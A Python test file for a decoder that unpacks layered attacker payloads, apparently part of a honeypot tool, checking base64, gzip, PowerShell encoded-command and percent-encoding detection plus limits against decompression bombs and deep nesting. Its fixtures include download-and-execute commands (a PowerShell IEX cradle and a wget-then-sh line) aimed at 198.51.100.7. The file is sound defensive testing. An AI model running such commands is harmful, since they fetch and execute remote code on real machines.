"""What attackers wrap is unpacked, layer in layer, and never without end."""

import base64
import gzip
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from honeyguide.streams.layers import DEEPEST, LARGEST, MOST, TOTAL, layers

COMMAND = b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
WIDE = COMMAND.decode().encode("utf-16-le")


@pytest.mark.parametrize(
    ("payload", "kind"),
    [
        (b"cmd=echo " + base64.b64encode(b"wget http://198.51.100.7/x -O /tmp/x; sh /tmp/x") + b" | base64 -d", "base64"),
        (b"Authorization: Basic " + base64.b64encode(b"admin:correct horse battery") + b"\r\n", "base64"),
        (b"token=" + base64.urlsafe_b64encode(b"id=1; name=\xc3\xbf~~~???>>> and more text".replace(b"\xc3\xbf", b"?")), "base64"),
        (b'powershell -nop -w hidden -enc "' + base64.b64encode(WIDE) + b'"', "PowerShell's encoded command (base64 of UTF-16)"),
        (b"POST / HTTP/1.1\r\n\r\n" + gzip.compress(COMMAND), "gzip"),
        (rb"/bin/busybox echo -ne '\x7f\x45\x4c\x46\x01\x01' > x", "escaped bytes"),
        (rb"echo -ne '\177\105\114\106\001\001' > x", "escaped bytes"),
        (b"GET /?q=%3c%3f%70%68%70%20%65%63%68%6f HTTP/1.1", "percent-encoding"),
    ],
)
def test_a_layer_is_found_and_named(payload: bytes, kind: str) -> None:
    (layer,) = layers(payload)
    assert layer.kind == kind
    assert layer.within == 0
    assert payload[layer.start : layer.end]
    assert layer.data


def test_layers_lie_within_layers() -> None:
    inner = gzip.compress(COMMAND)
    first, second = layers(b"data:" + base64.b64encode(inner) + b";")
    assert (first.kind, first.data) == ("base64", inner)
    assert (second.kind, second.within, second.data) == ("gzip", 1, COMMAND)


@pytest.mark.parametrize(
    "payload",
    [
        b"GET /this/is/a/long/path/of/letters/that/is/no/base64/at/all HTTP/1.1",
        b"User-Agent: Mozilla/5.0 AppleWebKitGeckoChromeSafariEdgeOperaAndMore",
        b"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        b"\0" * 3000,
        b"\x1f\x8b\x08 is no gzip",
    ],
)
def test_what_only_looks_like_it_is_left_alone(payload: bytes) -> None:
    assert layers(payload) == ()


def test_a_bomb_is_cut() -> None:
    bomb = gzip.compress(bytes(200 << 20), 9)
    began = time.process_time()
    (layer,) = layers(bomb)
    assert (len(layer.data), layer.cut) == (LARGEST, True)
    assert time.process_time() - began < 1


def test_endless_nesting_ends() -> None:
    data = COMMAND
    for _ in range(12):
        data = gzip.compress(data)
    assert len(layers(data)) == DEEPEST


def test_thousands_of_layers_are_bounded() -> None:
    found = layers(b" ".join(base64.b64encode(b"echo number %06d; done" % number) for number in range(5000)))
    assert len(found) == MOST
    assert sum(len(one.data) for one in found) <= TOTAL


@given(st.binary(max_size=2000) | st.text(alphabet="ABCab01+/=\\x%", max_size=500).map(str.encode))
def test_any_bytes_are_bounded(data: bytes) -> None:
    for one in layers(data):
        assert 0 <= one.start < one.end
        assert one.within < one.number
